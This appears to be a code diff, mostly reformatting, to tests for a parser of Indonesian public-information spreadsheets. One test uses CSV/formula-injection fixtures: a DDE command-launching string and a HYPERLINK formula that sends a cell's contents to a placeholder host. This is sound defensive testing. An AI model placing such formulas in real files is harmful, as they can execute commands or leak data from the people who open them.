@@ -10,8 +10,8 @@ from .entries import (
     IMMEDIATE,
     PERIODIC,
     PUBLIC,
-    RECORDS,
     REALISATION,
+    RECORDS,
     SITE,
     STRATEGY,
     WARNING,
@@ -73,7 +73,11 @@ def english_headers_in_another_order():
         "dikecualikan": "Exempted",
     }  # fmt: skip
     for number, entry in enumerate([*PUBLIC, RECORDS], start=1):
-        made = entry.day.strftime("%B %-d, %Y") if entry.date else f"{entry.years[0]} to {entry.years[1]}"
+        made = (
+            entry.day.strftime("%B %-d, %Y")
+            if entry.date
+            else f"{entry.years[0]} to {entry.years[1]}"
+        )
         words = {"hardcopy": "printed", "softcopy": "electronic", "online": "website"}
         row = text.put(
             url(entry), entry.retention, " & ".join(words[f] for f in entry.form), made,
@@ -82,9 +86,7 @@ def english_headers_in_another_order():
         )  # fmt: skip
         urls = () if entry is RECORDS else (url(entry),)
         years = (entry.day.year,) * 2 if entry.date else entry.years
-        text.expect(
-            read(entry, None, row, section=None, years=years, urls=urls, legal_basis=None)
-        )
+        text.expect(read(entry, None, row, section=None, years=years, urls=urls, legal_basis=None))
     return text
 
 
@@ -233,9 +235,7 @@ def two_tables_one_below_the_other():
     )  # fmt: skip
     for number, entry in enumerate(EXEMPT, start=1):
         row = book.put(number, entry.title, GROUND, "mengungkap rahasia pribadi", entry.retention)
-        book.expect(
-            read(entry, "PPID", row, years=None, responsible_unit=None, form=())
-        )
+        book.expect(read(entry, "PPID", row, years=None, responsible_unit=None, form=()))
     row = book.put(3, "Naskah uji konsekuensi", None, None, "30 tahun")
     book.expect(
         read(RECORDS, "PPID", row, title="Naskah uji konsekuensi", years=None, responsible_unit=None,
@@ -306,17 +306,28 @@ def formulas_and_their_like():
     plain = BUDGET_2024.like(
         section=None, date=None, responsible_unit=None, holder_unit=None, form=(), retention=None
     )
-    row = book.put(1, "Renja", "=cmd|' /C calc'!A0", f'=HYPERLINK("{SITE}/renja.pdf","Unduh")', 2024)
+    row = book.put(
+        1, "Renja", "=cmd|' /C calc'!A0", f'=HYPERLINK("{SITE}/renja.pdf","Unduh")', 2024
+    )
     book.expect(
         read(plain, "Berkala", row, title="Renja", summary="=cmd|' /C calc'!A0",
              urls=(f"{SITE}/renja.pdf",))
     )  # fmt: skip
-    row = book.put(2, "Renstra", "+62 254 000", '=HYPERLINK("https://x.invalid/?d="&C2,"klik")', 2024)
+    row = book.put(
+        2, "Renstra", "+62 254 000", '=HYPERLINK("https://x.invalid/?d="&C2,"klik")', 2024
+    )
     book.expect(read(plain, "Berkala", row, title="Renstra", summary="+62 254 000"))
     row = book.put(3, "DPA", "@Sekretariat", f"{SITE}/dpa.pdf", 2024)
     book.cell(3).value = '=IF(1=1,"a","b")'  # a formula indeed, whose value nobody has saved
     book.expect(
-        read(plain, "Berkala", row, title="DPA", summary='=IF(1=1,"a","b")', urls=(f"{SITE}/dpa.pdf",))
+        read(
+            plain,
+            "Berkala",
+            row,
+            title="DPA",
+            summary='=IF(1=1,"a","b")',
+            urls=(f"{SITE}/dpa.pdf",),
+        )
     )
     return book
 
@@ -329,7 +340,9 @@ def made_in_two_places(title=REALISATION.title):
     text.put("1", "2", "3", "4", "5", "6", "7")
     text.put("A", "INFORMASI BERKALA", "", "", "", "", "")
     text.put("1.", "Ringkasan Laporan Keuangan", "", "", "", "", "")
-    row = text.put("a.", title, "Sekretariat", "Subbagian Keuangan", "31 Juli 2023", "Softcopy", "10 tahun")
+    row = text.put(
+        "a.", title, "Sekretariat", "Subbagian Keuangan", "31 Juli 2023", "Softcopy", "10 tahun"
+    )
     text.expect(read(REALISATION, None, row))
     row = text.put("b.", "Neraca", "Sekretariat", "Subbagian Keuangan", "2023", "Web", "10 tahun")
     text.expect(read(PERIODIC[5], None, row))
